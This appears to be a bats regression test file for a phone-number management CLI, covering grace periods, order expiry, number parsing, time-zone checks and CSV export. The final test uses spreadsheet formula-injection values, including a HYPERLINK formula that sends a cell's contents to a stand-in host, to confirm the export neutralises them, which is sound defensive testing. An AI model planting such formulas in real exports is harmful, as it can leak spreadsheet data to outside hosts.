#!/usr/bin/env bats
# Regressions of the correctness review: each scenario failed before its fix.

load helpers

DE_LOCAL=+4930901820
doc() { printf '%%PDF proof' > "$TEST_DIR/proof.pdf"; echo "$TEST_DIR/proof.pdf"; }

@test "a re-bought number takes the type it was bought as this time" {
  numctl buy +12015550123 --type local >/dev/null
  numctl cancel +12015550123 >/dev/null
  NUMCTL_NOW=2026-03-01T00:00:00Z numctl sweep >/dev/null
  NUMCTL_NOW=2026-03-02T00:00:00Z numctl buy +12015550123 --type mobile >/dev/null
  [ "$(numctl show +12015550123 --json | jq -r .type)" = mobile ]
}

@test "restore is refused once the grace period ended, even before the sweep ran" {
  numctl buy +4915123456789 >/dev/null
  numctl cancel +4915123456789 >/dev/null
  before=$(db_checksum)
  NUMCTL_NOW=2026-03-01T00:00:00Z run_split restore +4915123456789
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"grace period ended at 2026-02-09T12:00:00Z"* ]]
  [ "$(db_checksum)" = "$before" ]
  NUMCTL_NOW=2026-02-09T11:59:59Z numctl restore +4915123456789 >/dev/null
}

@test "approve is refused once the order expired, whether or not the sweep ran; a late document extends it" {
  numctl buy $DE_LOCAL >/dev/null
  numctl docs submit $DE_LOCAL --kind proof_of_address --file "$(doc)" >/dev/null
  NUMCTL_NOW=2026-02-20T00:00:00Z run_split approve $DE_LOCAL
  [ "$status" -eq 4 ]
  [[ "$stderr" == *"the order expired at 2026-02-09T12:00:00Z"* ]]
  numctl buy +4930901821 >/dev/null
  NUMCTL_NOW=2026-02-05T00:00:00Z numctl docs submit +4930901821 --kind proof_of_address --file "$(doc)" >/dev/null
  # Bought more than 30 days ago, but every document is in since 02-05: only the review is left.
  NUMCTL_NOW=2026-02-20T00:00:00Z numctl sweep >/dev/null
  [ "$(status_of +4930901821)" = pending ]
  NUMCTL_NOW=2026-02-20T00:00:00Z numctl approve +4930901821 >/dev/null
  [ "$(status_of +4930901821)" = active ]
}

@test "a number typed almost in E.164, with its trunk prefix, is found" {
  numctl buy +4930901821 >/dev/null
  run numctl show +49030901821 --json
  [ "$status" -eq 0 ]
  [ "$(echo "$output" | jq -r .number)" = +4930901821 ]
  run numctl show +4915199999999
  [ "$status" -eq 3 ]
}

@test "time zone offsets out of range are refused" {
  for bad in 2026-01-10T12:00:00+99:99 2026-01-10T12:00:00-00:75 2026-01-10T12:00:00+15:00; do
    NUMCTL_NOW=$bad run numctl buy +4915123456789
    [ "$status" -eq 2 ]
  done
  printf 'number,bought_at\n+4915123456789,2026-01-01T00:00:00+24:00\n' > "$TEST_DIR/in.csv"
  run numctl import "$TEST_DIR/in.csv"
  [ "$status" -eq 2 ]
  NUMCTL_NOW=2026-01-10T12:00:00+14:00 run numctl buy +4915123456789
  [ "$status" -eq 0 ]
}

@test "without USER or NUMCTL_ACTOR the audit names the effective account" {
  env -u USER -u NUMCTL_ACTOR "$NUMCTL_BIN" buy +4915123456789 >/dev/null
  [ "$(numctl history +4915123456789 --json | jq -r '.[0].actor')" = "$(id -un)" ]
}

@test "CSV neutralises cells a spreadsheet would run as formulas, except the E.164 number; --csv-raw keeps them" {
  numctl team add '@SUM(1+1)' >/dev/null
  numctl buy +4915123456789 --team '@SUM(1+1)' --label '=HYPERLINK("http://x/?"&A1,"click")' >/dev/null
  row=$(numctl list --format csv | sed -n 2p)
  [[ "$row" == "+4915123456789,'+49 1512 3456789,DE,mobile,active,'@SUM(1+1),,"* ]]
  echo "$row" | grep -qF "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\""
  [ "$(numctl team list --format csv | sed -n 2p)" = $'\'@SUM(1+1),1,0\r' ]
  raw=$(numctl --csv-raw list --format csv | sed -n 2p)
  [[ "$raw" == "+4915123456789,+49 1512 3456789,DE,mobile,active,@SUM(1+1),,"* ]]
  echo "$raw" | grep -qF '"=HYPERLINK('
}
